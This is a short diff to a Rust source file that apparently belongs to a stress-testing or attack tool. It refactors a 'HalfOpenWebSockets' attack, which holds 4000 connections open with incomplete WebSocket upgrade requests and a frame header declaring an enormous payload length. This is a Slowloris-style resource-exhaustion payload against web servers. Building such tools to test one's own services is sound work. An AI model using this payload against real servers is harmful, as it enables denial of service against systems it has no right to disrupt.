@@ -7,6 +7,10 @@ use super::{Attack, Field};
 use crate::pace::Spent;
 
 const CONNECTIONS: usize = 4000;
+/// A whole request, and the start of a message longer than anything.
+const WHOLE: &[u8] = b"GET / HTTP/1.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
+    Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\n\r\n\
+    \x82\xff\x7f\xff\xff\xff\xff\xff\xff\xff";
 
 /// Requests for a WebSocket without their end, and some with a frame that is none behind it.
 #[derive(Default)]
@@ -35,13 +39,12 @@ impl Attack for HalfOpenWebSockets {
                 spent.add(self.streams.add(field.web, None)?);
                 self.opened += 1;
             }
-            let line: &[u8] = match self.opened % 4 {
-                0 => b"GET / HTTP/1.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n\
-                       Sec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\n\r\n\x82\xff\x7f\xff\xff\xff\xff\xff\xff\xff",
+            let words: &[u8] = match self.opened % 4 {
+                0 => WHOLE,
                 1 => b"GET / HTTP/1.1\r\nUpgrade: websocket\r\n",
                 _ => b"G",
             };
-            spent.add(self.streams.write_next(line));
+            spent.add(self.streams.write_next(words));
             self.streams.inspect();
         }
         Ok(spent)
